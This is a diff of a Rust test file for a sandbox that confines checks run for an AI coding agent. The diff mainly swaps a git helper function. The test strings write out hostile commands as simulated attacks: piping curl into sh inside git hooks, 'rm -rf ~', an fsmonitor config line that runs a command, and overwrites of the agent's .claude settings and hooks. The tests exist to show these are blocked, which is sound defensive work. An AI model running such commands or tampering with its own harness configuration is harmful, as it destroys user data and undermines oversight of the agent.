@@ -5,19 +5,7 @@
 //! name that does not exist yet, so a check that makes one is never a pass. Each test plays the
 //! agent whose code the check runs, in a real git repository.
 
-use std::path::Path;
-
 use crate::support::*;
-
-/// `git` in `dir`, which must succeed.
-fn git_in(dir: &Path, args: &[&str]) {
-    let out = std::process::Command::new("git")
-        .args(args)
-        .current_dir(dir)
-        .output()
-        .unwrap();
-    assert!(out.status.success(), "git {args:?}: {out:?}");
-}
 
 /// A check that runs `attack` and then passes: only the confinement stands in its way.
 fn passing(attack: &str) -> String {
@@ -30,7 +18,7 @@ fn a_check_cannot_write_a_nested_engine_folder_or_repository() {
     let root = p.path();
     p.write("web/.claude/settings.json", "{}\n");
     p.write("pkg/.mcp.json", "{}\n");
-    git_in(root, &["init", "-q", "vendor/lib"]);
+    git(root, &["init", "-q", "vendor/lib"]);
     let config = std::fs::read(root.join("vendor/lib/.git/config")).unwrap();
     let attack = "echo '{\"hooks\":{\"SessionStart\":[]}}' > web/.claude/settings.json; \
         mkdir -p web/.claude/agents && echo x > web/.claude/agents/helper.md; \
@@ -86,8 +74,8 @@ fn what_git_runs_from_the_project_is_read_only_to_a_check() {
         "[filter \"fmt\"]\n\tclean = ./scripts/clean.sh %f\n",
     );
     p.write("scripts/clean.sh", "cat\n");
-    git_in(root, &["config", "core.hooksPath", ".husky"]);
-    git_in(root, &["config", "include.path", "../tools/git.cfg"]);
+    git(root, &["config", "core.hooksPath", ".husky"]);
+    git(root, &["config", "include.path", "../tools/git.cfg"]);
     let attack = "echo 'curl x | sh' > .husky/pre-commit; echo 'rm -rf ~' > .husky/post-merge; \
         printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> tools/git.cfg; \
         echo 'rm -rf ~' > scripts/clean.sh";
@@ -105,7 +93,7 @@ fn what_git_runs_from_the_project_is_read_only_to_a_check() {
 #[test]
 fn a_check_that_makes_the_hooks_directory_git_names_is_not_a_pass() {
     let p = Project::git();
-    git_in(p.path(), &["config", "core.hooksPath", ".githooks"]);
+    git(p.path(), &["config", "core.hooksPath", ".githooks"]);
     let attack = "mkdir -p .githooks && echo 'rm -rf ~' > .githooks/pre-commit";
     let stop = p.stop_s1(&["--run", &passing(attack)]);
     let line = stop.assert_blocked_starting("stop-gate: `");
@@ -164,7 +152,7 @@ fn a_repository_not_named_dot_git_is_found_by_its_shape() {
     assert_contains!(line, "vendor/pkg");
     std::fs::remove_dir_all(p.path().join("vendor")).unwrap();
     // One of the user's, there before the check, is bound read-only whole.
-    git_in(p.path(), &["init", "-q", "--bare", "mirrors/lib"]);
+    git(p.path(), &["init", "-q", "--bare", "mirrors/lib"]);
     let config = p.read("mirrors/lib/config");
     p.stop_s1(&[
         "--run",
@@ -184,9 +172,9 @@ fn only_the_programs_a_setting_names_are_read_only() {
     p.write("store/index.js", "export default {}\n");
     p.write("test/a.test.js", "\n");
     p.write("scripts/fmt.sh", "true\n");
-    git_in(p.path(), &["config", "credential.helper", "store"]);
-    git_in(p.path(), &["config", "alias.t", "!npm test"]);
-    git_in(
+    git(p.path(), &["config", "credential.helper", "store"]);
+    git(p.path(), &["config", "alias.t", "!npm test"]);
+    git(
         p.path(),
         &["config", "alias.fmt", "!f() { ./scripts/fmt.sh; }; f"],
     );
